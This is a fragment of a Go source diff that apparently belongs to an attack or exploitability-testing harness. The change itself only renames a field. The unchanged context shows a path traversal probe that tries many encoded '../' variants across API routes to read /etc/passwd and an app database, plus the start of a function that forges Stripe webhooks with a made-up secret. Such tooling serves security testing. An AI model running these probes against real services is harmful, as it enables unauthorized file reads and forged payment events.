@@ -30,7 +30,7 @@ func paths(ctx context.Context, t *target) (string, error) {
 	}
 	tried := 0
 	for _, up := range []string{"../../../..", "..%2f..%2f..%2f..", "%2e%2e/%2e%2e/%2e%2e/%2e%2e", `..%5c..%5c..%5c..`, "....//....//....//....", "%252e%252e%252f%252e%252e"} {
-		for _, file := range []string{"/etc/passwd", t.place.Folder() + "/bgremove.db"} {
+		for _, file := range []string{"/etc/passwd", t.deployment.Folder() + "/bgremove.db"} {
 			for _, route := range []string{"/", "/docs/", "/api/v1/jobs/", "/api/jobs/", "/jobs/", "/assets/", "/reset/"} {
 				for _, end := range []string{"", "/download", "/input"} {
 					path := route + up + file + end
@@ -52,7 +52,7 @@ func paths(ctx context.Context, t *target) (string, error) {
 // webhook has a server that sells, and speaks for Stripe.
 func webhook(ctx context.Context, t *target) (_ string, err error) {
 	const secret = "whsec_attack"
-	p, err := t.newPlace(ctx)
+	p, err := t.newDeployment(ctx)
 	if err != nil {
 		return "", err
 	}
